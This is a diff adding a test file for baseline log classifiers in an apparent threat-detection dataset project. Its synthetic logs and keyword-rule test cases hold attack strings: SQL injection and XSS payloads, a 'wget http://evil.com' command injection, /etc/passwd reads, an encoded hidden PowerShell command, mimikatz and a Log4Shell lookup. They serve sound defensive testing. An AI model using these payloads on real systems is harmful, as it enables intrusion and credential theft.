@@ -1,0 +1,120 @@
+import { describe, expect, it } from 'vitest';
+import type { DatasetRecord } from '@opensoc/contracts';
+import { readFileSync } from 'node:fs';
+import { KEYWORD_RULES, SoftmaxRegression, fnv1a, keywordRulesBaseline, majorityBaseline, matchKeywordRule, tfidfLogRegBaseline } from './baselines.ts';
+import { recordLabels } from './format.ts';
+import { mulberry32 } from './prng.ts';
+
+const rng = mulberry32(42);
+const pick = <T>(xs: readonly T[]) => xs[Math.floor(rng() * xs.length)]!;
+const ip = () => `${10 + Math.floor(rng() * 200)}.${Math.floor(rng() * 255)}.${Math.floor(rng() * 255)}.${Math.floor(rng() * 255)}`;
+const paths = ['/profile', '/search', '/api/items', '/news', '/shop'];
+
+type Kind = 'sqli' | 'xss' | 'ssh' | 'benign';
+function makeLog(kind: Kind): string {
+  const p = pick(paths);
+  switch (kind) {
+    case 'sqli':
+      return `${ip()} - - [16/Mar/2025:01:05:33] "GET ${p}?id=1 ${pick(['OR 1=1--', 'UNION SELECT null,table_name FROM information_schema.tables--', 'AND SLEEP(5)--'])} HTTP/1.1" 403 ${Math.floor(rng() * 9999)} "-" "sqlmap/1.7"`;
+    case 'xss':
+      return `${ip()} - - [16/Mar/2025:01:05:33] "GET ${p}?q=${pick(['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(document.cookie)>'])} HTTP/1.1" 400 0 "-" "Mozilla/5.0"`;
+    case 'ssh':
+      return `Mar 15 01:05:33 server sshd[${Math.floor(rng() * 9999)}]: Failed password for ${pick(['root', 'admin', 'git'])} from ${ip()} port 22 ssh2`;
+    case 'benign':
+      return `${ip()} - - [18/Mar/2025:16:22:58] "GET ${pick(['/', '/index.html', '/about', '/static/app.js'])} HTTP/1.1" 200 ${Math.floor(rng() * 50000)} "-" "Mozilla/5.0"`;
+  }
+}
+const LABELS: Record<Kind, Pick<DatasetRecord, 'threatCategory' | 'threatType' | 'mitreTechnique' | 'mitreTactic' | 'severity'>> = {
+  sqli: { threatCategory: 'sql-injection', threatType: 'SQL Injection', mitreTechnique: 'T1190', mitreTactic: 'initial-access', severity: 'CRITICAL' },
+  xss: { threatCategory: 'cross-site-scripting', threatType: 'XSS', mitreTechnique: 'T1059.007', mitreTactic: 'execution', severity: 'HIGH' },
+  ssh: { threatCategory: 'brute-force', threatType: 'SSH Brute Force', mitreTechnique: 'T1110.001', mitreTactic: 'credential-access', severity: 'HIGH' },
+  benign: { threatCategory: 'benign', threatType: 'Normal traffic', mitreTechnique: null, mitreTactic: null, severity: 'LOW' },
+};
+function makeRecords(n: number, prefix: string): DatasetRecord[] {
+  const kinds: Kind[] = ['sqli', 'sqli', 'xss', 'ssh', 'benign'];
+  return Array.from({ length: n }, (_, i) => {
+    const kind = kinds[i % kinds.length]!;
+    return { id: `${prefix}${i}`, log: makeLog(kind), source: kind === 'ssh' ? 'sshd' : 'apache-access', ...LABELS[kind], provenance: { origin: 'generated', tool: 'test' } };
+  });
+}
+const train = makeRecords(80, 'tr');
+const test = makeRecords(40, 'te');
+const accuracy = (pred: ReturnType<ReturnType<typeof majorityBaseline.fit>['predict']>, task: 'threatCategory' | 'severity' | 'mitreTechnique') =>
+  pred.filter((p, i) => p[task] === recordLabels(test[i]!)[task]).length / test.length;
+
+describe('majority baseline', () => {
+  it('predicts the most frequent label of each task', () => {
+    const pred = majorityBaseline.fit(train).predict(test.map((r) => r.log));
+    expect(pred[0]).toEqual({ threatCategory: 'sql-injection', mitreTechnique: 'T1190', mitreTechniqueParent: 'T1190', mitreTactic: 'initial-access', severity: 'CRITICAL' });
+    expect(new Set(pred.map((p) => JSON.stringify(p))).size).toBe(1);
+    expect(() => majorityBaseline.fit([])).toThrow();
+  });
+});
+
+describe('keyword rules', () => {
+  it.each([
+    ['GET /search?id=1; EXEC xp_cmdshell(\'whoami\')-- HTTP/1.1', 'sql-injection'],
+    ['GET /api/file?path=%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1', 'path-traversal'],
+    ['GET /admin/exec?cmd=; wget http://evil.com/x HTTP/1.1', 'command-injection'],
+    ['GET /diagnostic?cmd=| cat /etc/passwd HTTP/1.1', 'command-injection'],
+    ['GET /read?file=../../etc/passwd&id=3 HTTP/1.1', 'path-traversal'],
+    ['GET /page?file=php://input HTTP/1.1', 'path-traversal'],
+    ['EventID: 4625 Description: Failed Login', 'brute-force'],
+    ['EventID: 4698 Description: Scheduled Task Created', 'persistence'],
+    ['powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', 'malicious-execution'],
+    ['sekurlsa::logonpasswords mimikatz', 'credential-dumping'],
+    ['"GET /.env HTTP/1.1" 404 0 "-" "nmap scripting engine"', 'reconnaissance'],
+    ['"GET /search HTTP/1.1" 503 0 "-" "Mozilla/5.0" [10000 requests/second from this IP]', 'denial-of-service'],
+    ['"GET /x HTTP/1.1" 200 100 "-" "${jndi:ldap://evil/a}"', 'web-exploit'],
+  ])('%s -> %s', (log, category) => expect(matchKeywordRule(log)?.category).toBe(category));
+  it('reads an unmatched log as benign and takes other labels from training', () => {
+    const fitted = keywordRulesBaseline.fit(train);
+    expect(fitted.predict(['GET / HTTP/1.1 200'])[0]!.threatCategory).toBe('benign');
+    const pred = fitted.predict(test.map((r) => r.log));
+    expect(accuracy(pred, 'threatCategory')).toBe(1);
+    expect(accuracy(pred, 'mitreTechnique')).toBe(1);
+  });
+  it('has one rule per non-benign category at most once', () => {
+    const cats = KEYWORD_RULES.map((r) => r.category);
+    expect(new Set(cats).size).toBe(cats.length);
+    expect(cats).not.toContain('benign');
+  });
+});
+
+describe('tfidf + logistic regression', () => {
+  it('hashes deterministically', () => {
+    expect(fnv1a('abc')).toBe(0x1a47e90b);
+  });
+  it('learns every task, lowers its loss and is deterministic', () => {
+    const model = tfidfLogRegBaseline({ features: 1 << 12, iterations: 60 });
+    const pred = model.fit(train).predict(test.map((r) => r.log));
+    expect(accuracy(pred, 'threatCategory')).toBeGreaterThanOrEqual(0.95);
+    expect(accuracy(pred, 'severity')).toBeGreaterThanOrEqual(0.95);
+    for (const losses of Object.values(model.lastLosses)) {
+      expect(losses!.at(-1)!).toBeLessThan(losses![0]! * 0.5);
+    }
+    const again = tfidfLogRegBaseline({ features: 1 << 12, iterations: 60 }).fit(train).predict(test.map((r) => r.log));
+    expect(again).toEqual(pred);
+    expect(pred[4]!.mitreTechnique).toBeNull(); // index 4 is benign
+  });
+  it('rejects a feature count that is not a power of two', () => {
+    expect(() => tfidfLogRegBaseline({ features: 1000 })).toThrow();
+  });
+});
+
+describe('SoftmaxRegression against scikit-learn', () => {
+  const ref = JSON.parse(readFileSync(new URL('./fixtures/stats-reference.json', import.meta.url), 'utf8')).logisticRegression as { x: number[][]; y: number[]; l2: number; probabilities: number[][] };
+  const rows = ref.x.map((r) => {
+    const idx = r.flatMap((v, j) => (v !== 0 ? [j] : []));
+    return { idx: Int32Array.from(idx), val: Float64Array.from(idx.map((j) => r[j]!)) };
+  });
+  it('reaches the same L2-penalised optimum (probabilities within 1e-5)', () => {
+    const model = new SoftmaxRegression(3, 6).fit(rows, Int32Array.from(ref.y), ref.l2, 500, 1e-10);
+    rows.forEach((row, i) => {
+      const p = model.probabilities(row);
+      p.forEach((v, k) => expect(Math.abs(v - ref.probabilities[i]![k]!)).toBeLessThan(1e-5));
+    });
+    // L-BFGS with an Armijo line search never increases the objective.
+    model.losses.slice(1).forEach((l, i) => expect(l).toBeLessThanOrEqual(model.losses[i]!));
+  });
+});
